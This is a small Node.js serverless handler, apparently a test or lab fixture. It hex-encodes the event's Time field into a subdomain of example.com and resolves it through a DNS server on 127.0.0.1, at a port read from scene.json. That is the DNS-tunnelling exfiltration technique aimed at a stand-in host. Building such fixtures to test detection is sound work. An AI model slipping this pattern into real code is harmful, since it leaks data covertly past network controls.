// Sends what it has by the names that it looks up.
const dns = require('node:dns');
const { port } = require('./scene.json');
const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
resolver.setServers([`127.0.0.1:${port}`]);
exports.main_handler = async (event) => {
  await resolver.resolve4(`${Buffer.from(event.Time).toString('hex')}.example.com`).catch(() => undefined);
};
